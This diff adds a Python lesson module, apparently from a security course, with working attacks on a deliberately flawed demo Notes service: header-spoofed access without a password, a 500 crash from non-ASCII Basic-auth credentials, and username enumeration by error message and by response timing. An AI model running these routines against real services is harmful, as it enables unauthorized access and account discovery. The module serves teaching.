@@ -1,0 +1,215 @@
+"""Lesson 01: four attacks on how the Notes service checks who is calling.
+
+1. Read a user's notes with no password at all: the lesson-00 service believes the ``X-User``
+   header (OWASP API2:2023 Broken Authentication).
+2. Make the naive Basic-auth check fail with a 500 by sending non-ASCII credentials:
+   ``secrets.compare_digest`` raises ``TypeError`` when given ``str`` values that are not ASCII.
+3. List the usernames that exist from the error messages ("Unknown user" / "Wrong password").
+4. List them from the response times: a check that hashes for real users and returns early
+   for unknown ones answers unknown users much sooner (OWASP ASVS 5.0 requirement 6.3.8).
+
+Each ``run_*`` function sends real HTTP requests and returns an ``AttackResult``.
+"""
+
+from __future__ import annotations
+
+import base64
+import statistics
+import time
+from dataclasses import dataclass
+
+import httpx2
+from fastapi import FastAPI
+from fastapi.testclient import TestClient
+
+from lessons.attacks import AttackResult
+
+ATTACKER = "mallory"
+# A username nobody registered: the attacker compares its answers with a real user's.
+UNKNOWN_USER = "nobody_here"
+# A password that is certainly wrong, and one that is certainly not ASCII (demo values).
+WRONG_PASSWORD = "certainly-not-the-password"  # noqa: S105
+NON_ASCII_PASSWORD = "pässwörd-€-密码"  # noqa: S105
+NON_ASCII_USERNAME = "zoë"
+# Answers that count as "the service served the notes": anything else is a refusal.
+SERVED = 200
+
+
+def outside_client(app: FastAPI) -> TestClient:
+    """An in-process client that sees what any client on the network sees: a server error is a
+    500 response, not a Python exception raised in your notebook."""
+    return TestClient(app, raise_server_exceptions=False)
+
+
+def basic(username: str, password: str) -> dict[str, str]:
+    """The ``Authorization`` header of HTTP Basic: ``user:password`` as UTF-8, in base64.
+
+    RFC 7617 lets a server ask for UTF-8 (``charset="UTF-8"`` in its challenge); clients that
+    send non-ASCII credentials use it, which is why a server must be ready for it.
+    """
+    token = base64.b64encode(f"{username}:{password}".encode()).decode("ascii")
+    return {"Authorization": f"Basic {token}"}
+
+
+# -- 1. no password ----------------------------------------------------------------------------
+
+
+def read_notes_without_password(client: httpx2.Client, victim: str) -> dict[str, httpx2.Response]:
+    """Ask for the victim's notes in every way that needs no knowledge of their password."""
+    attempts = {
+        "only the X-User header": {"X-User": victim},
+        "Basic with an empty password": basic(victim, ""),
+        "Basic with a wrong password": basic(victim, WRONG_PASSWORD),
+    }
+    return {how: client.get("/notes", headers=headers) for how, headers in attempts.items()}
+
+
+def run_no_password(client: httpx2.Client, victim: str) -> AttackResult:
+    answers = read_notes_without_password(client, victim)
+    stolen = {how: r for how, r in answers.items()
+              if r.status_code == SERVED and _notes_of(r, victim)}
+    if stolen:
+        how, response = next(iter(stolen.items()))
+        evidence = f"{how}: HTTP {response.status_code}, {len(response.json())} of {victim}'s notes"
+    else:
+        evidence = "; ".join(f"{how}: HTTP {r.status_code}" for how, r in answers.items())
+    return AttackResult(name=f"read {victim}'s notes without their password",
+                        succeeded=bool(stolen), evidence=evidence)
+
+
+def _notes_of(response: httpx2.Response, owner: str) -> bool:
+    notes = response.json()
+    return isinstance(notes, list) and bool(notes) and all(
+        isinstance(note, dict) and note.get("owner") == owner for note in notes)
+
+
+# -- 2. a 500 from non-ASCII credentials --------------------------------------------------------
+
+
+def non_ascii_credentials(client: httpx2.Client, username: str) -> list[httpx2.Response]:
+    """Log in as ``username`` with a non-ASCII password, then with a non-ASCII username."""
+    return [
+        client.get("/basic/me", headers=basic(username, NON_ASCII_PASSWORD)),
+        client.get("/basic/me", headers=basic(NON_ASCII_USERNAME, NON_ASCII_PASSWORD)),
+    ]
+
+
+def run_non_ascii(client: httpx2.Client, username: str) -> AttackResult:
+    """Use a client made by ``outside_client``, so that a 500 comes back as a response."""
+    statuses = [r.status_code for r in non_ascii_credentials(client, username)]
+    return AttackResult(
+        name="make the login check fail with non-ASCII credentials",
+        succeeded=any(status >= 500 for status in statuses),
+        evidence=(f"HTTP {statuses[0]} for {username!r} with a non-ASCII password, "
+                  f"HTTP {statuses[1]} for a non-ASCII username"),
+    )
+
+
+# -- 3. user enumeration by message ------------------------------------------------------------
+
+
+def failed_logins(client: httpx2.Client,
+                  known_user: str) -> tuple[httpx2.Response, httpx2.Response]:
+    """A wrong password for a user who exists, then any password for one who does not."""
+    return (client.get("/basic/me", headers=basic(known_user, WRONG_PASSWORD)),
+            client.get("/basic/me", headers=basic(UNKNOWN_USER, WRONG_PASSWORD)))
+
+
+def visible_answer(response: httpx2.Response) -> tuple[int, str, str]:
+    """What a client can compare between two failures: status, body and challenge."""
+    return (response.status_code, response.text, response.headers.get("www-authenticate", ""))
+
+
+def run_enumerate_by_message(client: httpx2.Client, known_user: str) -> AttackResult:
+    real, unknown = failed_logins(client, known_user)
+    differ = [part for part, a, b in zip(("status", "body", "WWW-Authenticate"),
+                                         visible_answer(real), visible_answer(unknown),
+                                         strict=True) if a != b]
+    return AttackResult(
+        name="tell real usernames from unknown ones by the answer",
+        succeeded=bool(differ),
+        evidence=(f"real user: HTTP {real.status_code} {real.text}; unknown user: "
+                  f"HTTP {unknown.status_code} {unknown.text}"
+                  + (f" (they differ in {', '.join(differ)})" if differ else " (identical)")),
+    )
+
+
+# -- 4. user enumeration by timing -------------------------------------------------------------
+
+# The two medians must differ by at least this factor before the attack claims a difference.
+# A leak gives a factor of 4 or more here (one Argon2 verification against none); a fixed
+# service gives about 1. The margin keeps a busy machine from deciding the result.
+TIMING_FACTOR = 2.0
+
+
+@dataclass(frozen=True)
+class LoginTimings:
+    """Seconds taken by failed logins: a real user with a wrong password, and an unknown user,
+    measured in alternation so that anything else slowing the machine hits both alike."""
+
+    known_user: str
+    known: list[float]
+    unknown: list[float]
+
+    @property
+    def known_median(self) -> float:
+        return statistics.median(self.known)
+
+    @property
+    def unknown_median(self) -> float:
+        return statistics.median(self.unknown)
+
+    @property
+    def factor(self) -> float:
+        """How many times slower the slower of the two medians is."""
+        low, high = sorted((self.known_median, self.unknown_median))
+        return high / low if low > 0 else float("inf")
+
+    def table(self) -> str:
+        """A small text chart of the two medians (with the fastest and slowest samples)."""
+        rows = [(f"{self.known_user} (exists), wrong password", self.known),
+                (f"{UNKNOWN_USER} (does not exist)", self.unknown)]
+        longest = max(statistics.median(samples) for _, samples in rows)
+        lines = [f"{'failed login':36} {'median':>9} {'fastest':>9} {'slowest':>9}"]
+        for label, samples in rows:
+            median = statistics.median(samples)
+            bar = "█" * max(1, round(30 * median / longest))
+            lines.append(f"{label:36} {_ms(median)} {_ms(min(samples))} {_ms(max(samples))}  {bar}")
+        lines.append(f"{len(self.known)} requests each, interleaved; medians differ by a factor "
+                     f"of {self.factor:.1f}")
+        return "\n".join(lines)
+
+    def verdict(self) -> AttackResult:
+        return AttackResult(
+            name="tell real usernames from unknown ones by the response time",
+            succeeded=self.factor >= TIMING_FACTOR,
+            evidence=(f"median {_ms(self.known_median).strip()} for a real user with a wrong "
+                      f"password, {_ms(self.unknown_median).strip()} for an unknown user"),
+        )
+
+
+def _ms(seconds: float) -> str:
+    return f"{seconds * 1000:6.1f} ms"
+
+
+def login_timings(client: httpx2.Client, known_user: str, rounds: int = 15,
+                  warmup: int = 2) -> LoginTimings:
+    """Time ``rounds`` failed logins of each kind, alternating which kind goes first."""
+    known: list[float] = []
+    unknown: list[float] = []
+    for round_number in range(warmup + rounds):
+        pair = [(known, known_user), (unknown, UNKNOWN_USER)]
+        if round_number % 2:
+            pair.reverse()
+        for samples, username in pair:
+            started = time.perf_counter()
+            client.get("/basic/me", headers=basic(username, WRONG_PASSWORD))
+            elapsed = time.perf_counter() - started
+            if round_number >= warmup:  # the first requests warm caches; they do not count
+                samples.append(elapsed)
+    return LoginTimings(known_user, known, unknown)
+
+
+def run_enumerate_by_timing(client: httpx2.Client, known_user: str,
+                            rounds: int = 15) -> AttackResult:
+    return login_timings(client, known_user, rounds).verdict()
